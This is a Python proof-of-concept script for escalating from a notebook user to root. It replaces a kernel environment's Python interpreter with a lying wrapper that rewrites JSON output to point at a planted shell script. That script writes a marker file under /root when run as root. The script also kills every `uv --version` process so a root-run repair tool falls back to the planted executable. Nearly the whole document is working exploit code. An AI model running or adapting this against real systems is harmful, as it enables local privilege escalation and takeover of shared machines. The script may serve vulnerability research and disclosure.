"""What a notebook does to become root: it lets its own Python name another one as "executable", and hopes that root runs it.

notebook_to_root.py plant KERNEL_ENVIRONMENT KEY...    the Python that lies, and a package to repair
notebook_to_root.py race                               end every `uv --version` of its own uid, so that uv seems to be broken
"""

from __future__ import annotations

import contextlib
import os
import signal
import sys
import time
from pathlib import Path

EVIL = Path.home() / ".evil-python"
EVIL_TEXT = """\
#!/bin/sh
[ "$(id -u)" != 0 ] || echo "$0 $*" >>/root/owned-by-a-notebook
exec /usr/bin/python3 "$@"
"""
LIAR_TEXT = """\
#!/usr/bin/python3 -I
import json, os, subprocess, sys
real = os.path.join(os.path.dirname(sys.argv[0]), ".real-python")
if "-c" not in sys.argv:
    os.execv(real, [real, *sys.argv[1:]])
done = subprocess.run([real, *sys.argv[1:]], stdout=subprocess.PIPE, close_fds=False)
text = done.stdout
try:
    said = json.loads(text.decode().strip().splitlines()[-1])
    said.update({key: %r for key in %r if key in said})
    text = json.dumps(said).encode() + b"\\n"
except (ValueError, IndexError, AttributeError):
    pass
sys.stdout.buffer.write(text)
sys.stdout.flush()
sys.exit(done.returncode if done.returncode >= 0 else 1)
"""


def plant(environment: Path, keys: list[str]) -> None:
    EVIL.write_text(EVIL_TEXT)
    EVIL.chmod(0o755)
    python = environment / "bin" / "python"
    real = python.with_name(".real-python")
    if not real.is_symlink():
        python.rename(real)
    python.unlink(missing_ok=True)
    python.write_text(LIAR_TEXT % (str(EVIL), keys))
    python.chmod(0o755)
    for package in environment.glob("lib/python3.*/site-packages/comm/__init__.py"):
        package.write_text(package.read_text() + "\n")


def race() -> None:
    print("ready", flush=True)
    end = time.monotonic() + 120
    while time.monotonic() < end:
        for name in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                words = Path("/proc", name, "cmdline").read_bytes().split(b"\0")
                if words[0].endswith(b"uv") and b"--version" in words:
                    os.kill(int(name), signal.SIGKILL)


if __name__ == "__main__":
    if sys.argv[1] == "race":
        race()
    else:
        plant(Path(sys.argv[2]), sys.argv[3:])
